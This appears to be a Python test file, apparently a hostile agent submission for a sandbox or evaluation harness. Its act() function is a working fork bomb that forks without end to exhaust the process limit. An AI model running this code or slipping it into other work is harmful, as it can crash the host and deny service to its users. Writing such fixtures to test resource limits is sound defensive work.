"""Attacks the process limit: act() forks without end (every child forks too)."""

import os


def act(observation, info):
    while True:
        os.fork()
